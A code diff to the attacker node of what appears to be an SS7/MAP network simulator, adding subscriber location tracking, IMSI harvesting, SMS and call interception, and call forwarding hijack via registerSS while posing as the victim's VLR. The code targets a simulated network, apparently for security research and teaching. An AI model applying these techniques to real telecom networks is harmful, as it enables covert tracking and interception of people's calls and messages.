@@ -9,8 +9,10 @@ import java.util.Optional;
 import java.util.function.Consumer;
 import org.slf4j.Logger;
 import org.slf4j.LoggerFactory;
+import org.ss7sim.map.dialogue.MapOpenInfo;
 import org.ss7sim.map.message.AnyTimeInterrogationArg;
 import org.ss7sim.map.message.AnyTimeInterrogationRes;
+import org.ss7sim.map.message.BasicServiceCode;
 import org.ss7sim.map.message.CancelLocationArg;
 import org.ss7sim.map.message.Identity;
 import org.ss7sim.map.message.InsertSubscriberDataArg;
@@ -18,14 +20,21 @@ import org.ss7sim.map.message.InsertSubscriberDataRes;
 import org.ss7sim.map.message.MapParameter;
 import org.ss7sim.map.message.MtForwardSmArg;
 import org.ss7sim.map.message.MtForwardSmRes;
+import org.ss7sim.map.message.ProvideRoamingNumberArg;
+import org.ss7sim.map.message.ProvideRoamingNumberRes;
 import org.ss7sim.map.message.ProvideSubscriberInfoArg;
 import org.ss7sim.map.message.ProvideSubscriberInfoRes;
 import org.ss7sim.map.message.PurgeMsArg;
+import org.ss7sim.map.message.RegisterSsArg;
 import org.ss7sim.map.message.RequestedInfo;
 import org.ss7sim.map.message.RoutingInfoForSmArg;
 import org.ss7sim.map.message.RoutingInfoForSmRes;
+import org.ss7sim.map.message.SendImsiArg;
+import org.ss7sim.map.message.SendImsiRes;
 import org.ss7sim.map.message.SendRoutingInfoArg;
 import org.ss7sim.map.message.SendRoutingInfoRes;
+import org.ss7sim.map.message.SsCode;
+import org.ss7sim.map.message.SsInfo;
 import org.ss7sim.map.message.SubscriberIdentity;
 import org.ss7sim.map.message.SubscriberInfo;
 import org.ss7sim.map.message.UpdateLocationArg;
@@ -60,10 +69,11 @@ import org.ss7sim.wire.gsm.Imsi;
  * The attacker node ({@code kind: attacker}, docs/security.md): a MAP endpoint in another network
  * that sends the classic SS7 attack operations to a victim's network with any calling GT it likes,
  * and plays the VLR/MSC it claims to be when the victim's network answers (it accepts
- * InsertSubscriberData, and takes every MT-ForwardSM — an intercepted short message). What it
- * obtains is its loot: one line per answer ({@link #loot()}, also logged). It knows the victim's
- * IMSI and serving MSC as a real attacker would after an SRI-SM (the network file's subscriber
- * table). Runs on the node's thread.
+ * InsertSubscriberData, takes every MT-ForwardSM — an intercepted short message — and answers
+ * ProvideRoamingNumber with a roaming number of its own — an intercepted call). What it obtains is
+ * its loot: one line per answer ({@link #loot()}, also logged) and the data itself ({@link
+ * #items()}). It knows the victim's IMSI and serving MSC as a real attacker would after an SRI-SM
+ * (the network file's subscriber table). Runs on the node's thread.
  */
 public final class Attacker implements NodeLogic, MapUser {
   private static final Logger LOG = LoggerFactory.getLogger(Attacker.class);
@@ -72,6 +82,8 @@ public final class Attacker implements NodeLogic, MapUser {
   private final Map<Integer, MapStack> maps = new HashMap<>();
   private final Map<MapDialogue, Consumer<String>> onNotice = new HashMap<>();
   private final List<String> loot = new ArrayList<>();
+  private final List<Loot> items = new ArrayList<>();
+  private int nextMsrn;
   private Subscribers subscribers;
   private String ownGt;
   private SimNode node;
@@ -99,6 +111,17 @@ public final class Attacker implements NodeLogic, MapUser {
   /** What the attacks obtained, one line each, in order. */
   public List<String> loot() {
     return List.copyOf(loot);
+  }
+
+  /** What the attacks obtained, as data: IMSIs, locations, short messages, calls, in order. */
+  public List<Loot> items() {
+    return List.copyOf(items);
+  }
+
+  private void found(Loot item) {
+    if (items.size() < 10_000) {
+      items.add(item);
+    }
   }
 
   private void take(String line) {
@@ -135,24 +158,24 @@ public final class Attacker implements NodeLogic, MapUser {
           send(
               MapOperations.ANY_TIME_INTERROGATION,
               AnyTimeInterrogationArg.of(
-                  new SubscriberIdentity(null, victimMsisdn), RequestedInfo.of(), own),
+                  new SubscriberIdentity(null, victimMsisdn), LOCATION_AND_STATE, own),
               MapApplicationContext.ANY_TIME_ENQUIRY,
               gt(calling, Ssn.MSC),
               gt(msisdn, Ssn.HLR),
               flow,
               what,
-              (AnyTimeInterrogationRes res) -> info(res.subscriberInfo()),
+              (AnyTimeInterrogationRes res) -> info(msisdn, res.subscriberInfo()),
               listener);
       case "psi" ->
           send(
               MapOperations.PROVIDE_SUBSCRIBER_INFO,
-              ProvideSubscriberInfoArg.of(imsi, RequestedInfo.of()),
+              ProvideSubscriberInfoArg.of(imsi, LOCATION_AND_STATE),
               MapApplicationContext.SUBSCRIBER_INFO_ENQUIRY,
               gt(calling, Ssn.HLR),
               gt(v.mscGt(), Ssn.VLR),
               flow,
               what,
-              (ProvideSubscriberInfoRes res) -> info(res.subscriberInfo()),
+              (ProvideSubscriberInfoRes res) -> info(msisdn, res.subscriberInfo()),
               listener);
       case "sri" ->
           send(
@@ -163,11 +186,14 @@ public final class Attacker implements NodeLogic, MapUser {
               gt(msisdn, Ssn.HLR),
               flow,
               what,
-              (SendRoutingInfoRes res) ->
-                  "imsi="
-                      + (res.imsi() == null ? "-" : res.imsi().digits())
-                      + " msrn="
-                      + (res.roamingNumber() == null ? "-" : res.roamingNumber().digits()),
+              (SendRoutingInfoRes res) -> {
+                String got = res.imsi() == null ? "-" : res.imsi().digits();
+                String msrn = res.roamingNumber() == null ? "-" : res.roamingNumber().digits();
+                if (res.imsi() != null) {
+                  found(new Loot.HarvestedImsi(msisdn, got, "-"));
+                }
+                return "imsi=" + got + " msrn=" + msrn;
+              },
               listener);
       case "sri-sm" ->
           send(
@@ -178,15 +204,34 @@ public final class Attacker implements NodeLogic, MapUser {
               gt(msisdn, Ssn.HLR),
               flow,
               what,
-              (RoutingInfoForSmRes res) ->
-                  "imsi="
-                      + (res.imsi() == null ? "-" : res.imsi().digits())
-                      + " msc="
-                      + (res.locationInfoWithLmsi() == null
-                              || res.locationInfoWithLmsi().networkNodeNumber() == null
-                          ? "-"
-                          : res.locationInfoWithLmsi().networkNodeNumber().digits()),
+              (RoutingInfoForSmRes res) -> {
+                String got = res.imsi() == null ? "-" : res.imsi().digits();
+                String msc =
+                    res.locationInfoWithLmsi() == null
+                            || res.locationInfoWithLmsi().networkNodeNumber() == null
+                        ? "-"
+                        : res.locationInfoWithLmsi().networkNodeNumber().digits();
+                if (res.imsi() != null) {
+                  found(new Loot.HarvestedImsi(msisdn, got, msc));
+                }
+                return "imsi=" + got + " msc=" + msc;
+              },
               listener);
+      case "send-imsi" ->
+          send(
+              MapOperations.SEND_IMSI,
+              new SendImsiArg(victimMsisdn),
+              MapApplicationContext.IMSI_RETRIEVAL,
+              gt(calling, Ssn.VLR),
+              gt(msisdn, Ssn.HLR),
+              flow,
+              what,
+              (SendImsiRes res) -> {
+                found(new Loot.HarvestedImsi(msisdn, res.imsi().digits(), "-"));
+                return "imsi=" + res.imsi().digits();
+              },
+              listener);
+      case "register-ss" -> registerSs(v, calling, flow, what, listener);
       case "ul" ->
           send(
               MapOperations.UPDATE_LOCATION,
@@ -242,18 +287,68 @@ public final class Attacker implements NodeLogic, MapUser {
     }
   }
 
-  private static String info(SubscriberInfo si) {
+  /**
+   * registerSS of call forwarding unconditional to the attacker's number, as the VLR serving the
+   * victim (TS 29.002 §11.2): the MAP-OPEN names the victim by IMSI (destination reference) and the
+   * VLR (origination reference); the HLR confirms with the forwarding now active.
+   */
+  private void registerSs(
+      Victim v, String calling, String flow, String what, AttemptListener listener) {
+    AddressString to = AddressString.international(ownGt);
+    send(
+        MapOperations.REGISTER_SS,
+        new RegisterSsArg(
+            SsCode.CFU, BasicServiceCode.TELEPHONY, to, null, null, null, null, List.of()),
+        MapApplicationContext.NETWORK_FUNCTIONAL_SS,
+        gt(calling, Ssn.VLR),
+        gt(v.msisdn(), Ssn.HLR),
+        flow,
+        what,
+        (SsInfo res) -> {
+          String number = to.digits();
+          if (res != null
+              && res.forwardingInfo() != null
+              && !res.forwardingInfo().forwardingFeatureList().isEmpty()
+              && res.forwardingInfo().forwardingFeatureList().get(0).forwardedToNumber() != null) {
+            number =
+                res.forwardingInfo().forwardingFeatureList().get(0).forwardedToNumber().digits();
+          }
+          found(new Loot.Redirection(v.msisdn(), number, "cfu"));
+          return "calls to " + v.msisdn() + " forwarded to " + number;
+        },
+        listener,
+        new MapOpenInfo(
+            new AddressString(0, AddressString.LAND_MOBILE, v.imsi()),
+            AddressString.international(calling),
+            null,
+            List.of()));
+  }
+
+  /** Location and state: what a tracker asks for (RequestedInfo, TS 29.002 §8.11.1). */
+  private static final RequestedInfo LOCATION_AND_STATE =
+      new RequestedInfo(true, true, null, false, null, false, false, List.of());
+
+  private String info(String subscriber, SubscriberInfo si) {
     if (si == null) {
       return "no subscriber info";
     }
     StringBuilder b = new StringBuilder();
+    String state = null;
+    String vlr = null;
+    String msc = null;
     if (si.subscriberState() != null) {
-      b.append("state=").append(si.subscriberState().kind().name().toLowerCase(Locale.ROOT));
+      state = si.subscriberState().kind().name().toLowerCase(Locale.ROOT);
+      b.append("state=").append(state);
     }
     if (si.locationInformation() != null) {
       var l = si.locationInformation();
       if (l.vlrNumber() != null) {
-        b.append(" vlr=").append(l.vlrNumber().digits());
+        vlr = l.vlrNumber().digits();
+        b.append(" vlr=").append(vlr);
+      }
+      if (l.mscNumber() != null) {
+        msc = l.mscNumber().digits();
+        b.append(" msc=").append(msc);
       }
       if (l.cellGlobalId() != null) {
         b.append(" cell=").append(l.cellGlobalId());
@@ -262,6 +357,7 @@ public final class Attacker implements NodeLogic, MapUser {
         b.append(" age=").append(l.ageOfLocationInformation());
       }
     }
+    found(new Loot.Location(subscriber, state, vlr, msc));
     return b.length() == 0 ? "subscriber info" : b.toString().trim();
   }
 
@@ -275,11 +371,28 @@ public final class Attacker implements NodeLogic, MapUser {
       String what,
       java.util.function.Function<R, String> gain,
       AttemptListener listener) {
+    send(op, arg, context, calling, called, flow, what, gain, listener, null);
+  }
+
+  private <A extends MapParameter, R> void send(
+      Operation<A, R> op,
+      A arg,
+      MapApplicationContext context,
+      SccpAddress calling,
+      SccpAddress called,
+      String flow,
+      String what,
+      java.util.function.Function<R, String> gain,
+      AttemptListener listener,
+      MapOpenInfo openInfo) {
     MapStack map = maps.get(calling.ssn().value());
     if (map == null) {
       map = maps.values().iterator().next();
     }
-    MapDialogue d = map.open(calling, called, context, 3);
+    MapDialogue d = map.open(calling, called, context, Math.min(3, context.maxVersion()));
+    if (openInfo != null) {
+      d.openInfo(openInfo);
+    }
     boolean[] done = {false};
     Consumer<Outcome> finish =
         o -> {
@@ -330,17 +443,50 @@ public final class Attacker implements NodeLogic, MapUser {
     switch (operation) {
       case INSERT_SUBSCRIBER_DATA -> {
         InsertSubscriberDataArg a = (InsertSubscriberDataArg) argument;
-        take(
-            "received insertSubscriberData: msisdn="
-                + (a.msisdn() == null ? "-" : a.msisdn().digits())
-                + " imsi="
-                + (a.imsi() == null ? "-" : a.imsi().digits()));
+        String victim = a.imsi() == null ? "-" : a.imsi().digits();
+        String number = a.msisdn() == null ? "-" : a.msisdn().digits();
+        take("received insertSubscriberData: msisdn=" + number + " imsi=" + victim);
+        found(new Loot.Profile(victim, number));
         d.returnResult(id, InsertSubscriberDataRes.of());
         d.send();
       }
       case MT_FORWARD_SM -> {
-        take("intercepted mt-forwardSM: text=\"" + text((MtForwardSmArg) argument) + "\"");
+        MtForwardSmArg a = (MtForwardSmArg) argument;
+        String recipient =
+            a.smRpDa() instanceof org.ss7sim.map.common.SmRpDa.ByImsi byImsi
+                ? byImsi.imsi().digits()
+                : "-";
+        Optional<SmsTpdu.SmsDeliver> deliver = deliver(a);
+        String from =
+            deliver
+                .map(x -> x.originatingAddress() == null ? "-" : x.originatingAddress().value())
+                .orElse("-");
+        String text = deliver.map(Attacker::text).orElse("?");
+        take(
+            "intercepted mt-forwardSM for "
+                + recipient
+                + " from "
+                + from
+                + ": text=\""
+                + text
+                + "\"");
+        found(new Loot.InterceptedSms(recipient, from, text));
         d.returnResult(id, MtForwardSmRes.of());
+        d.close();
+      }
+      case PROVIDE_ROAMING_NUMBER -> {
+        // a call for the victim: the attacker hands out a roaming number of its own
+        ProvideRoamingNumberArg a = (ProvideRoamingNumberArg) argument;
+        nextMsrn = (nextMsrn + 1) % 10_000;
+        String msrn =
+            ownGt.substring(0, Math.min(5, ownGt.length()))
+                + "999"
+                + String.format(Locale.ROOT, "%04d", nextMsrn);
+        String victim = a.imsi() == null ? "-" : a.imsi().digits();
+        String gmsc = a.gmscAddress() == null ? "-" : a.gmscAddress().digits();
+        take("intercepted call routing for " + victim + ": roaming number " + msrn);
+        found(new Loot.InterceptedCall(victim, msrn, gmsc));
+        d.returnResult(id, ProvideRoamingNumberRes.of(AddressString.international(msrn)));
         d.close();
       }
       default -> {
@@ -354,18 +500,24 @@ public final class Attacker implements NodeLogic, MapUser {
     }
   }
 
-  private static String text(MtForwardSmArg a) {
+  private static Optional<SmsTpdu.SmsDeliver> deliver(MtForwardSmArg a) {
     try {
       if (SmsTpduCodec.decode(a.smRpUi(), SmsDirection.TO_MOBILE)
           instanceof SmsTpdu.SmsDeliver deliver) {
-        return deliver
-            .userData()
-            .text(deliver.dataCodingScheme(), deliver.userDataHeaderIndicator());
+        return Optional.of(deliver);
       }
+    } catch (org.ss7sim.wire.MalformedMessageException | RuntimeException e) {
+      return Optional.empty();
+    }
+    return Optional.empty();
+  }
+
+  private static String text(SmsTpdu.SmsDeliver deliver) {
+    try {
+      return deliver.userData().text(deliver.dataCodingScheme(), deliver.userDataHeaderIndicator());
     } catch (org.ss7sim.wire.MalformedMessageException | RuntimeException e) {
       return "?";
     }
-    return "?";
   }
 
   @Override
